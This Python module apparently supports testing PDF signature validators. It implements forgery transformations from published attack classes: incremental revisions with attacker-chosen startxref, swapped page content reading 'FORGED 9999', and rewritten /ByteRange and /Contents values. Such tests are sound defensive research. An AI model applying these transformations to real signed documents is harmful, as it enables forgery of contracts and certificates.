"""What forgers do to a signed file, each as a function from bytes to bytes.

The classes are those of Mladenov et al. (CCS 2019: universal forgery, incremental saving, wrapping), Rohlmann et al.
(S&P 2021: certification attacks) and Mainka et al. (NDSS 2021: shadow attacks).
"""

from __future__ import annotations

import io
import re
from collections.abc import Mapping

import pikepdf

BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


def byte_ranges(data: bytes) -> list[tuple[int, int, int, int]]:
    found = (tuple(int(number) for number in match.groups()) for match in BYTE_RANGE.finditer(data))
    return [(a, b, c, d) for a, b, c, d in found]


def last_startxref(data: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def append_revision(
    data: bytes,
    objects: Mapping[int, bytes],
    *,
    with_xref: bool = True,
    startxref: int | None = None,
    end: bytes = b"%%EOF\n",
) -> bytes:
    """An incremental update; without a table, or with a startxref to wherever the attacker likes."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        root = pdf.Root.objgen[0]
        size = max(int(pdf.trailer.Size), *(number + 1 for number in objects))
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    if with_xref:
        out += b"xref\n"
        for number in sorted(offsets):
            out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
        out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (size, root, last_startxref(data))
    pointer = table if startxref is None else startxref
    return bytes(out) + b"startxref\n%d\n" % pointer + end


def page_content_number(data: bytes) -> int:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        contents = pdf.pages[0].obj.Contents
        return int((contents[0] if isinstance(contents, pikepdf.Array) else contents).objgen[0])


def other_content(text: bytes = b"FORGED 9999") -> bytes:
    body = b"BT /F1 24 Tf 72 600 Td (%s) Tj ET" % text
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(body), body)


def object_of(data: bytes, number: int) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return pdf.get_object(number, 0).unparse(resolved=True)


def catalog_number(data: bytes) -> int:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return int(pdf.Root.objgen[0])


def form(data: bytes) -> tuple[int, bytes]:
    """Object number and source of the dictionary that holds the form: the AcroForm itself, or the catalog."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        number = pdf.Root.AcroForm.objgen[0] or pdf.Root.objgen[0]
        return int(number), pdf.get_object(number, 0).unparse(resolved=True)


def field_numbers(data: bytes) -> dict[str, int]:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return {str(field.T): int(field.objgen[0]) for field in pdf.Root.AcroForm.Fields}


def signature_numbers(data: bytes) -> dict[str, int]:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return {str(field.T): int(field.V.objgen[0]) for field in pdf.Root.AcroForm.Fields if "/V" in field}


def replace_page(data: bytes, **choices: object) -> bytes:
    return append_revision(data, {page_content_number(data): other_content()}, **choices)  # type: ignore[arg-type]


def set_byte_range(data: bytes, text: bytes, *, position: int = -1) -> bytes:
    """Another /ByteRange of the same length, so that nothing else moves."""
    match = list(BYTE_RANGE.finditer(data))[position]
    room = match.end() - match.start()
    assert len(text) <= room, (len(text), room)
    return data[: match.start()] + text.ljust(room) + data[match.end() :]


def set_contents(data: bytes, digits: bytes, *, position: int = -1) -> bytes:
    _, start, end, _ = byte_ranges(data)[position]
    return data[: start + 1] + digits[: end - start - 2].ljust(end - start - 2, b"0") + data[end - 1 :]


def contents_digits(data: bytes, *, position: int = -1) -> bytes:
    _, start, end, _ = byte_ranges(data)[position]
    return data[start + 1 : end - 1]


def rewritten(data: bytes, draw: bytes = b"") -> bytes:
    """Saved anew by an ordinary tool, here with something drawn on the page: the late QR stamp."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        if draw:
            pdf.pages[0].contents_add(draw)
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()
